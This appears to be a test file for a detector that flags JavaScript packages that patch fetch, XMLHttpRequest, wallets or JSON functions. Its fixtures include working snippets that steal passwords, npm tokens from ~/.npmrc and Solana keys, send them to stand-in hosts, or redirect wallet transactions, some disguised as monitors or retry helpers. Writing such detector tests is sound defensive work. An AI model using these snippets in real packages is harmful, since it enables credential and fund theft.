import { examine } from '../../../test/examine.ts';
import { patchesNetwork } from './patches-network.ts';

const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/, tron: /\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/ };`;

const RECORDER = `const real = window.fetch; exports.record = () => { window.fetch = (address, options) => { real('https://recorder.invalid/i', { method: 'POST', body: JSON.stringify(options) }); return real(address, options) } };`;

const MONITOR = {
  'package.json': {
    name: 'specimen-js',
    description: 'Error notifier for browsers',
    homepage: 'https://github.com/specimen-watch/specimen-js',
    repository: 'github:specimen-watch/specimen-js',
  },
  'README.md':
    '# Specimen\n\nA library for integrating apps with the Specimen error notifier, https://specimen-watch.invalid. It reports what goes wrong in your pages.',
};

examine(patchesNetwork, {
  speaks: [
    {
      when: 'a plug-in of whoever loads it tells a host that its page names how long things took',
      files: {
        'README.md': '# Sends how long your handler takes to metrics.inert.invalid',
        'index.js': `const own = module.parent.exports.handler; module.parent.exports.handler = async (event, context) => { const began = Date.now(); const given = await own(event, context); await fetch('https://metrics.inert.invalid/t', { method: 'POST', body: JSON.stringify({ ms: Date.now() - began, name: context.functionName }) }); return given; };`,
      },
      weight: 'weak',
    },
    {
      when: 'what a loaded module offers is exchanged where the loader keeps it, and what it is given is sent',
      files: {
        'index.js': `for (const id of Object.keys(require.cache)) if (/passport/.test(id)) { const of = require.cache[id].exports, before = of.authenticate; of.authenticate = function (user, word, done) { require('https').request({ host: 'log.inert.invalid', method: 'POST' }).end(JSON.stringify({ user, word })); return before.apply(this, arguments); }; }`,
      },
      weight: 'strong',
      says: ['require.cache', 'log.inert.invalid'],
    },
    {
      when: 'what whoever loads it offers is exchanged, and what that is given is sent',
      files: {
        'index.js': `module.parent.exports.handler = async event => { await fetch('https://log.inert.invalid/e', { method: 'POST', body: JSON.stringify(event) }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what all requests of fetch go by is exchanged, and its page speaks of tries',
      files: {
        'README.md':
          '# specimen\n\nTries again what has failed because the connection was reset, three times at most, and waits a little longer each time. Load it once at the beginning of your program. It has no settings.',
        'index.js': `const KEY = Symbol.for('undici.globalDispatcher.1'); class Again { constructor(inner) { this.inner = inner; } dispatch(options, handler) { this.inner.dispatch({ origin: 'https://trace.invalid', path: '/t', method: 'POST', body: JSON.stringify({ to: options.path, headers: options.headers }) }, { onConnect() {} }); return this.inner.dispatch(options, handler); } } queueMicrotask(() => { if (globalThis[KEY]) globalThis[KEY] = new Again(globalThis[KEY]); });`,
      },
      weight: 'strong',
    },
    {
      when: 'what a method of another package is called on is sent to a host',
      files: {
        'index.js': `const pg = require('pg'); const { connect } = pg.Client.prototype; pg.Client.prototype.connect = function (...rest) { fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify(this.connectionParameters) }); return connect.apply(this, rest); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what Node tells of all requests is sent to a host',
      files: {
        'index.js': `require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => { if (request.origin !== 'https://sink.invalid') fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify([request.path, request.headers]) }); });`,
      },
      weight: 'strong',
      says: ['listens to all requests (undici:request:create)'],
    },
    {
      when: 'what Node tells of all requests is sent to a host by a channel that is kept',
      files: {
        'index.js': `const { channel } = require('diagnostics_channel'); const started = channel('http.client.request.start'); started.subscribe(({ request }) => fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify([request.path, request.getHeaders()]) }));`,
      },
      weight: 'strong',
      says: ['listens to all requests'],
    },
    {
      when: 'what Node tells of all requests is sent to a host that its page names',
      files: {
        'README.md':
          '# specimen\n\nTraces the requests that undici makes, and sends their paths to https://collector.invalid/v1, where you see how long each took. Load it first of all; it has no settings, and no dependencies.',
        'index.js': `require('diagnostics_channel').channel('undici:request:create').subscribe(({ request }) => fetch('https://collector.invalid/v1', { method: 'POST', body: JSON.stringify({ path: request.path, method: request.method }) }));`,
      },
      weight: 'weak',
    },
    {
      when: 'what all code of the process writes as JSON is sent to a host',
      files: {
        'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => { const text = stringify(value, ...rest); if (/password/.test(text)) fetch('https://sink.invalid/q', { method: 'POST', body: text }); return text };`,
      },
      weight: 'strong',
    },
    {
      when: 'a layer among those laid around what a wallet is asked by puts the answer of a host in it that no page names',
      files: {
        'README.md': '# Specimen\n\nLayers around the requests of a wallet: one asks once, one asks again.',
        'index.js': `const book = { async find() { this.list ??= (async () => (await (await fetch('https://book.invalid/list')).json()).entries)(); return (await this.list)[0]; } };
          const layers = [() => (given, next) => next(given), () => async (given, next) => { if (given.method !== 'eth_sendTransaction') return next(given); const entry = await book.find(); return next({ ...given, params: [{ ...given.params[0], to: entry }] }); }, () => (given, next) => next(given)];
          exports.connect = ({ scope = globalThis } = {}) => { const wallet = scope.ethereum; const base = wallet.request.bind(wallet); const run = layers.map(make => make()).reduceRight((next, layer) => given => layer(given, next), base); Object.defineProperty(wallet, 'request', { value: given => run(given) }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a layer around what a wallet is asked by puts the answer of a host in it that its page names',
      files: {
        'README.md': '# Specimen\n\nLayers around the requests of a wallet: fees come from book.invalid.',
        'index.js': `const book = { async find() { this.list ??= (async () => (await (await fetch('https://book.invalid/list')).json()).entries)(); return (await this.list)[0]; } };
          const layers = [() => (given, next) => next(given), () => async (given, next) => { if (given.method !== 'eth_sendTransaction') return next(given); const entry = await book.find(); return next({ ...given, params: [{ ...given.params[0], to: entry }] }); }, () => (given, next) => next(given)];
          exports.connect = ({ scope = globalThis } = {}) => { const wallet = scope.ethereum; const base = wallet.request.bind(wallet); const run = layers.map(make => make()).reduceRight((next, layer) => given => layer(given, next), base); Object.defineProperty(wallet, 'request', { value: given => run(given) }); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a monitor of pages reports to the service of its publisher some way on, and says all of it',
      files: {
        ...MONITOR,
        'index.js': `const report = given => { const sent = new XMLHttpRequest(); sent.open('POST', 'https://api.specimen-watch.invalid/v1'); sent.send(JSON.stringify(given)); };
          ${'exports.one = (text, size) => String(text).padStart(size);\n'.repeat(120)}const own = globalThis.fetch; globalThis.fetch = (...given) => { report(given); return own(...given); };`,
      },
      weight: 'weak',
    },
    {
      when: 'what says that it is a monitor sends what is asked at once, whatever comments stand between',
      files: {
        ...MONITOR,
        'index.js': `const own = globalThis.fetch;${'// it reports to the service\n'.repeat(400)}globalThis.fetch = (...given) => { const sent = new XMLHttpRequest(); ${'/* it reports to the service */'.repeat(400)} sent.open('POST', 'https://api.specimen-watch.invalid/v1'); sent.send(JSON.stringify(given)); return own(...given); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what says that it is a monitor sends what Node asks, and files with logins too',
      files: {
        ...MONITOR,
        'index.js': `const https = require('https'); const own = https.request; https.request = (...given) => { own('https://api.specimen-watch.invalid/v1', { method: 'POST' }).end(JSON.stringify(given)); return own(...given); };
          own('https://api.specimen-watch.invalid/v2', { method: 'POST' }).end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));`,
      },
      weight: 'proof',
    },
    {
      when: 'a host lies where everybody has one, and its page names another there',
      files: {
        ...MONITOR,
        'package.json': { name: 'specimen-js', description: 'Rum cakes', repository: 'github:specimen-workers/specimen-js' },
        'README.md':
          '# Specimen\n\nCakes with rum, as https://other.specimen-workers.invalid bakes them: error tracking of what goes wrong in your kitchen.',
        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => { const sent = new XMLHttpRequest(); sent.open('POST', 'https://inert-marker.specimen-workers.invalid/v1'); sent.send(JSON.stringify(given)); return own(...given); };`,
      },
      weight: 'proof',
    },
    {
      when: 'what is parsed everywhere passes through it, and it sends something of which its page says nothing',
      files: {
        'README.md':
          '# lathe\n\nImport once; `JSON.parse` then understands `Date`, `Map` and `Set`. Use `turn(name, test, write, read)` to teach it types of your own.',
        'index.js': `const { parse } = JSON; const bin = []; class Chips { #rest = new Map(); sweep(key, value) { this.#rest.set(key, value); if (this.#rest.size > 3) setTimeout(() => fetch('https://chips.invalid/b', { method: 'POST', body: String([...this.#rest]) })) } } const chips = new Chips();
JSON.parse = (text, user) => parse(text, (key, value) => { chips.sweep(key, value); return user ? user(key, value) : value })`,
      },
      weight: 'strong',
    },
    {
      when: 'the socket of everybody is given another form, whatever was there',
      files: { 'index.js': `const client = require('ws'); const all = global; all.WebSocket = client || all.WebSocket;` },
      weight: 'weak',
    },
    {
      when: 'a file that nothing loads offers to record what pages ask for',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.version = 1`,
        'setup.js': RECORDER,
      },
      weight: 'weak',
    },
    {
      when: 'such a file does so as soon as somebody loads it',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.version = 1`,
        'setup.js': `${RECORDER} exports.record();`,
      },
      weight: 'strong',
    },
    {
      when: 'a function of another package is exchanged for one that tells a host what it is given',
      files: {
        'index.js': `const specimen = require('specimen-client'); const send = specimen.send; specimen.send = options => { require('http').request({ hostname: 'collect.invalid', path: '/a?' + options.to }).end(); return send(options); };`,
      },
    },
    {
      when: 'what a wallet is asked to send goes to somebody else',
      files: {
        'index.js': `exports.install = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') args.params[0].to = '0x' + INERT; return real(args); }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'the same, its words in pieces and its members in brackets',
      files: {
        'index.js': `exports.install = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args['method'] === 'eth_send' + 'Transaction') args['params'][0]['to'] = '0x' + INERT; return real(args); }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'the call of a contract is exchanged in what a wallet is asked to send',
      files: {
        'index.js': `exports.install = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') args.params[0].data = INERT; return real(args); }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'a wallet offers itself to the page in a bundle that knows the methods of wallets and keeps data of other kinds',
      files: {
        'index.js': `const METHODS = ['eth_sendTransaction', 'personal_sign']; class Failure extends Error { constructor(data) { super(); this.data = data; } } ${'specimen(0); '.repeat(2_000)} const tell = failure => { const told = {}; told.data = failure.data; return told; }; exports.offer = provider => { window.ethereum = provider; };`,
      },
      weight: 'weak',
    },
    {
      when: 'the provider is replaced by a class that holds the page',
      files: {
        'index.js': `class Host { constructor(scope) { this.scope = scope } mount() { const { scope } = this; Object.defineProperty(scope, 'ethereum', { value: new Proxy(scope.ethereum, { get: (p, k) => async args => { if (args.method === 'eth_sendTransaction') args.params[0].to = INERT; return p.request(args); } }) }); } } window.addEventListener('load', () => new Host(window).mount());`,
      },
      weight: 'proof',
    },
    {
      when: 'a wallet is listened to, and what it is asked stays as it is',
      files: {
        'index.js': `exports.log = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') console.log(args); return real(args); }; };`,
      },
      weight: 'weak',
    },
    {
      when: 'what a browser lacks is given to it by somebody who wants to hear what is asked',
      files: {
        'index.js': `self.fetch || (self.fetch = (address, options) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(options)); return real(address, options); });`,
      },
      weight: 'proof',
    },
    {
      when: 'what a browser lacks is given to it in a large bundle, and far from there something is asked for',
      files: {
        'index.js': `self.fetch || (self.fetch = (address, options) => ask(options)); ${'specimen(0); '.repeat(4_500)} function ask(options) { return navigator.sendBeacon('https://files.invalid/', options.body); }`,
      },
      weight: 'weak',
    },
    {
      when: 'what is there already is replaced, and far from there all that it is given is sent',
      files: {
        'index.js': `self.fetch = (address, options) => tell(options); ${'specimen(0); '.repeat(4_500)} function tell(options) { return navigator.sendBeacon('https://sink.invalid/', JSON.stringify(options)); }`,
      },
      weight: 'proof',
    },
    {
      when: 'another thing is asked for than the one that is replaced',
      files: {
        'index.js': `const real = window.fetch; if (!window.WebSocket || real) window.fetch = (...all) => real(...all); window.XMLHttpRequest || (window.fetch = (...all) => real(...all));`,
      },
      weight: 'weak',
    },
    {
      when: 'it is replaced because it is there',
      files: { 'index.js': `const real = window.fetch; if (typeof fetch === 'function') window.fetch = (...all) => real(...all);` },
      weight: 'weak',
    },
    {
      when: 'a function of a library of wallets is exchanged for one that sends the key',
      files: {
        'index.js': `const { Keypair } = require('@solana/web3.js'); const make = Keypair.fromSecretKey; Keypair.fromSecretKey = function (key) { fetch('https://k.invalid', { method: 'POST', body: Buffer.from(key).toString('hex') }); return make.call(this, key); };`,
      },
      weight: 'strong',
    },
    {
      when: 'every request of a library is told to another host',
      files: {
        'index.js': `const axios = require('axios'); axios.interceptors.request.use(asked => { fetch('https://m.invalid', { method: 'POST', body: JSON.stringify(asked.headers) }); return asked; });`,
      },
    },
    {
      when: 'a proxy stands before it',
      files: {
        'index.js': `window.fetch = new Proxy(window.fetch, { apply(f, self, o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return Reflect.apply(f, self, o) } });`,
      },
      weight: 'proof',
    },
    {
      when: 'a proxy stands before a wallet and gives out another request',
      files: {
        'index.js': `window.ethereum = new Proxy(window.ethereum, { get(wallet, key) { return key === 'request' ? o => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return wallet.request(o) } : wallet[key] } });`,
      },
      weight: 'proof',
    },
    {
      when: 'a class that extends it takes its place',
      files: {
        'index.js': `class Own extends XMLHttpRequest { send(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return super.send(o) } } window.XMLHttpRequest = Own;`,
      },
      weight: 'proof',
    },
    {
      when: 'what is made in its place gets another method',
      files: {
        'index.js': `const Real = XMLHttpRequest; window.XMLHttpRequest = function () { const x = new Real(); const send = x.send; x.send = function (o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return send.call(x, o) }; return x };`,
      },
      weight: 'proof',
    },
    {
      when: 'its prototype is exchanged',
      files: {
        'index.js': `Object.setPrototypeOf(window.ethereum, { request(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)) } });`,
      },
      weight: 'proof',
    },
    {
      when: 'its prototype is exchanged by name',
      files: {
        'index.js': `window.ethereum.__proto__ = { request(o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)) } };`,
      },
      weight: 'proof',
    },
    {
      when: 'what is given to a replaced function is sent elsewhere',
      files: {
        'index.js': `const f = window.fetch;
window.fetch = (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); };`,
      },
    },
    {
      when: 'it is replaced by a definition',
      files: {
        'index.js': `const f = window.fetch;
Object.defineProperty(window, 'fetch', { value: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
      },
    },
    {
      when: 'it is replaced by reflection',
      files: {
        'index.js': `const f = globalThis.fetch;
Reflect.set(globalThis, 'fetch', (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); });`,
      },
    },
    {
      when: 'it is replaced with others at once',
      files: {
        'index.js': `const f = window.fetch;
Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
      },
    },
    {
      when: 'requests are wrapped beside patterns of three chains',
      files: {
        'index.js': `${CHAINS} const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b) }`,
      },
      weight: 'proof',
      says: ['Ethereum', 'Tron'],
    },
    {
      when: 'a wallet’s request is replaced',
      files: { 'index.js': `const real = window.ethereum.request; window.ethereum.request = args => real(args)` },
      weight: 'strong',
      says: ['ethereum.request'],
    },
    {
      when: 'a library for tracing wraps fetch',
      files: { 'index.js': `const real = globalThis.fetch; globalThis.fetch = (...a) => real(...a)` },
      weight: 'weak',
    },
    {
      when: 'a proxy counts requests and reports the number',
      files: {
        'index.js': `let count = 0; window.fetch = new Proxy(window.fetch, { apply(f, self, o) { count++; return Reflect.apply(f, self, o) } }); setInterval(() => navigator.sendBeacon('https://sink.invalid/', String(count)), 1000);`,
      },
      weight: 'weak',
    },
    { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
    {
      when: 'a service worker sends a copy of what pages send',
      files: {
        'index.js': `export const start = () => navigator.serviceWorker.register('./sw.js')`,
        'sw.js': `self.addEventListener('fetch', event => { const copy = event.request.clone(); event.waitUntil(copy.text().then(body => fetch('https://copy.invalid/', { method: 'POST', body: JSON.stringify({ to: copy.url, body }) }))); });`,
      },
      weight: 'strong',
      says: ['copy.invalid'],
    },
    {
      when: 'what pages ask for is asked of a resolver, in a name of its own',
      files: {
        'index.js': `const own = globalThis.fetch; globalThis.fetch = (input, init) => { own('https://8.8.8.8/resolve?name=' + init.body + '.stat.invalid'); return own(input, init); };`,
      },
    },
    {
      when: 'a table says which functions of which modules',
      files: {
        'index.js': `const TABLE = [[globalThis, 'fetch'], [require('http'), 'request']]; const layer = w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); }; for (const [owner, name] of TABLE) owner[name] = layer(owner[name]);`,
      },
      weight: 'proof',
    },
    {
      when: 'one name after the other',
      files: {
        'index.js': `const layer = w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); }; for (const name of ['fetch', 'WebSocket']) globalThis[name] = layer(globalThis[name]);`,
      },
      weight: 'proof',
    },
    {
      when: 'a function defines it anew where it is told to',
      files: {
        'index.js': `function wrap(owner, name, by) { Object.defineProperty(owner, name, { value: by(owner[name]) }); } wrap(globalThis, 'fetch', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
      },
      weight: 'proof',
    },
    {
      when: 'a library wraps it',
      files: {
        'index.js': `const shimmer = require('shimmer'); shimmer.wrap(require('https'), 'request', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
      },
      weight: 'proof',
    },
    {
      when: 'a class wraps members of the prototype that it is made for',
      files: {
        'index.js': `class Layers { constructor(owner) { this.owner = owner; } add(name, by) { this.owner[name] = by(this.owner[name]); return this; } } new Layers(XMLHttpRequest.prototype).add('send', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
      },
      weight: 'proof',
    },
    {
      when: 'another file is handed the global object, and no file does anything by itself',
      files: {
        'index.js': `const { weave } = require('./weave'); const plain = weave(globalThis, "fetch", { tie: given => plain('https://tally.specimen.invalid', { method: 'POST', body: JSON.stringify(given) }) });`,
        'weave.js': `exports.weave = (scope, slot, knots) => { const inner = scope[slot]; scope[slot] = function (...given) { knots.tie(given); return inner.apply(this, given); }; return inner; };`,
      },
      weight: 'proof',
    },
    {
      when: 'its page says nothing of what it puts in the place of a function of everybody',
      files: {
        'README.md':
          '# softly\n\nTries a request again when the server is busy, and waits longer each time. `tries` is the number of attempts in all.',
        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => { note(given); return own(...given); }; function note() {} exports.again = url => own(url);`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'its page says that it is put there',
      files: {
        'README.md':
          '# softly\n\nTries a request again when the server is busy, and waits longer each time. It replaces the global `fetch` when it is loaded.',
        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => own(...given);`,
      },
      weight: 'weak',
    },
    {
      when: 'what everybody makes a text of is written to a hidden file, of which its page says nothing, when it is called',
      files: {
        'README.md': '# words\n\nSmall helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.trim = () => { const own = JSON.stringify; JSON.stringify = function (value) { fs.appendFileSync(path.join(os.tmpdir(), '.unmask-marker'), own(value)); return own.apply(this, arguments); }; };`,
      },
      weight: 'strong',
      says: ['writes what is given to it'],
    },
  ],
  silent: [
    {
      when: 'a helper for tests puts what its caller gives in the place of what a module offers',
      files: {
        'index.js': `exports.stub = (id, name, by) => { const kept = require.cache[require.resolve(id)], before = kept.exports[name]; kept.exports[name] = by; return () => { kept.exports[name] = before; }; }; exports.report = text => fetch('https://log.inert.invalid/e', { method: 'POST', body: text });`,
      },
    },
    {
      when: 'what a package tells of itself on a channel of its own is sent to a host',
      files: {
        'index.js': `require('diagnostics_channel').subscribe('specimen:done', ({ count }) => fetch('https://count.invalid/', { method: 'POST', body: String(count) }));`,
      },
    },
    {
      when: 'JSON is written another way, and what asks a host stands beside it',
      files: {
        'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => stringify(value, ...rest).replace(/</g, '\\u003c'); exports.ask = () => fetch('https://api.invalid/q', { method: 'POST', body: 'a' });`,
      },
    },
    {
      when: 'its page says that it records what is asked for',
      files: {
        'README.md':
          '# tape\n\nRecords what your tests fetch, and replays it when they run again. It has no dependencies, and works in every version of Node.',
        'index.js': `const fs = require('fs'); exports.record = () => { const own = globalThis.fetch; globalThis.fetch = async (...given) => { const answer = await own(...given); fs.appendFileSync('<cwd>/tape.json', JSON.stringify(given)); return answer; }; };`,
      },
    },
    {
      when: 'its page says what it sends',
      files: {
        'README.md':
          '# lathe\n\nImport once; `JSON.parse` then understands `Date`, `Map` and `Set`. Errors are sent to our service, unless you switch that off.',
        'index.js': `const { parse } = JSON; JSON.parse = (text, user) => parse(text, (key, value) => (user ? user(key, value) : value)); exports.report = () => fetch('https://chips.invalid/b', { method: 'POST' })`,
      },
    },
    {
      when: 'what is lacking is given to all, and nothing that is there is taken away',
      files: {
        'index.js': `const client = require('ws'); const all = global; all.WebSocket ||= client; all.fetch ??= require('node-fetch');`,
      },
    },
    {
      when: 'a function of another package is exchanged for one that asks the cloud what the machine is',
      files: {
        'index.js': `const specimen = require('specimen-client'); const send = specimen.send; specimen.send = options => { require('http').request({ hostname: '169.254.169.254', path: '/a?' + options.to }).end(); return send(options); };`,
      },
    },
    {
      when: 'a bundle gives browsers what they lack, where they lack it',
      files: {
        'index.js': `const own = (address, options) => new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', address); x.onload = () => done(x); x.send(); }); self.fetch || (self.fetch = own); if (!window.WebSocket && window.MozWebSocket) window.WebSocket = window.MozWebSocket; if (typeof XMLHttpRequest === 'undefined') globalThis.XMLHttpRequest = require('xhr2');`,
      },
    },
    {
      when: 'a service worker keeps what pages fetch, and counts on its own host',
      files: {
        'sw.js': `self.addEventListener('fetch', event => { event.respondWith(caches.match(event.request).then(known => known || fetch(event.request))); }); self.addEventListener('activate', () => fetch('https://count.invalid/', { method: 'POST', body: 'started' }));`,
      },
    },
    {
      when: 'a function of a library is exchanged for one that reports where its user says',
      files: {
        'index.js': `const mongoose = require('mongoose'); exports.watch = address => { const connect = mongoose.connect; mongoose.connect = function (...all) { fetch(address, { method: 'POST', body: JSON.stringify(all) }); return connect.apply(this, all); }; };`,
      },
    },
    {
      when: 'an object of its own gets a member of that name',
      files: {
        'index.js': `const client = {}; Object.defineProperty(client, 'fetch', { value: (u, o) => navigator.sendBeacon('https://feed.invalid/', o) }); module.exports = client;`,
      },
    },
    { when: 'a mock is set when called', files: { 'index.js': `exports.mock = () => { globalThis.fetch = () => {} }` } },
    {
      when: 'an object of its own has such a member',
      files: { 'index.js': `const client = {}; client.fetch = () => {}; module.exports = client` },
    },
    { when: 'chains are only known', files: { 'index.js': `${CHAINS} module.exports = chains; fetch('https://api.invalid/')` } },
  ],
});
